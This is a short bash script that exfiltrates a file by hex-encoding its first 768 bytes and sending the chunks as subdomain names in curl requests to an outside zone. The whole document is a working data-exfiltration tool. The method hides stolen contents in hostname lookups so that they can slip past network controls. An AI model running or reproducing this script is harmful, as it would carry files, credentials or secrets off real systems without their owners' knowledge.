#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Carries a file out in the names of a web server, with curl: curl.sh ZONE FILE
while read -r part; do
	curl -s -m 3 -o /dev/null "http://$part.$1/"
	sleep 0.2
done < <(head -c 768 "$2" | od -An -v -tx1 -w24 | tr -d ' ')
